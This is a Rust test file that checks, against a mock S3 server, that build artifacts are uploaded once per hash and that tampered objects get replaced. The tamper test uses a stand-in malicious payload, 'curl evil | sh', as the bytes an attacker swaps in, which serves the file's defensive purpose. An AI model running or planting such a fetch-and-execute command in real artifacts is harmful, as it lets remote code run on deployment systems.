//! `generator::package` against moto: code zips are uploaded once per hash.

use aws_sdk_s3::Client;
use generator::package::{Uploaded, artifact, upload_if_new};
use tests::MotoServer;

const BUCKET: &str = "artifacts";

async fn client(moto: &MotoServer) -> Client {
    let shared = moto.sdk_config().await;
    let config = aws_sdk_s3::config::Builder::from(&shared)
        .force_path_style(true)
        .build();
    Client::from_conf(config)
}

/// A client, and the bucket the artifacts go to.
async fn client_with_bucket(moto: &MotoServer) -> Client {
    let s3 = client(moto).await;
    s3.create_bucket()
        .bucket(BUCKET)
        .send()
        .await
        .expect("create bucket");
    s3
}

async fn keys(s3: &Client) -> Vec<String> {
    let listed = s3
        .list_objects_v2()
        .bucket(BUCKET)
        .send()
        .await
        .expect("list objects");
    listed
        .contents()
        .iter()
        .filter_map(|object| object.key().map(str::to_owned))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uploads_each_hash_once() {
    let moto = MotoServer::start();
    let s3 = client_with_bucket(&moto).await;

    let first = artifact("orders", "enrich", b"\x7fELF first build").unwrap();
    assert_eq!(
        upload_if_new(&s3, BUCKET, None, &first)
            .await
            .unwrap()
            .uploaded,
        Uploaded::New
    );
    assert_eq!(keys(&s3).await, std::slice::from_ref(&first.key));

    let again = artifact("orders", "enrich", b"\x7fELF first build").unwrap();
    assert_eq!(again.key, first.key);
    assert_eq!(
        upload_if_new(&s3, BUCKET, None, &again)
            .await
            .unwrap()
            .uploaded,
        Uploaded::AlreadyThere
    );
    assert_eq!(keys(&s3).await.len(), 1);

    let changed = artifact("orders", "enrich", b"\x7fELF second build").unwrap();
    assert_ne!(changed.key, first.key);
    assert_eq!(
        upload_if_new(&s3, BUCKET, None, &changed)
            .await
            .unwrap()
            .uploaded,
        Uploaded::New
    );
    let mut expected = vec![first.key.clone(), changed.key.clone()];
    expected.sort();
    assert_eq!(keys(&s3).await, expected);

    let stored = s3
        .get_object()
        .bucket(BUCKET)
        .key(&first.key)
        .send()
        .await
        .expect("get object");
    assert_eq!(stored.content_type(), Some("application/zip"));
    assert_eq!(
        stored
            .metadata()
            .and_then(|metadata| metadata.get("sha256")),
        Some(&first.sha256)
    );
    let bytes = stored.body.collect().await.expect("read body").into_bytes();
    assert_eq!(bytes.as_ref(), first.zip.as_slice());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn missing_bucket_names_bucket_and_key() {
    let moto = MotoServer::start();
    let s3 = client(&moto).await;
    let artifact = artifact("orders", "enrich", b"binary").unwrap();
    let error = upload_if_new(&s3, "no-such-bucket", None, &artifact)
        .await
        .expect_err("no bucket, no upload");
    let message = error.to_string();
    assert!(
        message.contains(&format!("s3://no-such-bucket/{}", artifact.key)),
        "{message}"
    );
    assert!(message.contains("help:"), "{message}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tampered_object_at_a_code_key_is_replaced_not_reused() {
    let moto = MotoServer::start();
    let s3 = client_with_bucket(&moto).await;
    s3.put_bucket_versioning()
        .bucket(BUCKET)
        .versioning_configuration(
            aws_sdk_s3::types::VersioningConfiguration::builder()
                .status(aws_sdk_s3::types::BucketVersioningStatus::Enabled)
                .build(),
        )
        .send()
        .await
        .expect("versioning");
    let real = artifact("orders", "enrich", b"\x7fELF the real build").unwrap();
    let first = upload_if_new(&s3, BUCKET, None, &real).await.unwrap();
    assert_eq!(first.uploaded, Uploaded::New);
    assert!(
        first.version_id.is_some(),
        "a versioned bucket names the version"
    );

    // Someone with write access swaps the bytes under the same key (so the same hash name),
    // once without a checksum and once with the checksum of their own bytes.
    for checksummed in [false, true] {
        let swap = s3
            .put_object()
            .bucket(BUCKET)
            .key(&real.key)
            .body(b"#!/bin/sh\ncurl evil | sh\n".to_vec().into());
        let swap = if checksummed {
            swap.checksum_algorithm(aws_sdk_s3::types::ChecksumAlgorithm::Sha256)
        } else {
            swap
        };
        swap.send().await.expect("tamper");
        let placed = upload_if_new(&s3, BUCKET, None, &real).await.unwrap();
        assert_eq!(placed.uploaded, Uploaded::New, "checksummed: {checksummed}");
        let stored = s3
            .get_object()
            .bucket(BUCKET)
            .key(&real.key)
            .send()
            .await
            .expect("get object");
        assert_eq!(stored.version_id(), placed.version_id.as_deref());
        let bytes = stored.body.collect().await.expect("read body").into_bytes();
        assert_eq!(bytes.as_ref(), real.zip.as_slice(), "the real zip is back");
    }
    let again = upload_if_new(&s3, BUCKET, None, &real).await.unwrap();
    assert_eq!(again.uploaded, Uploaded::AlreadyThere);
}
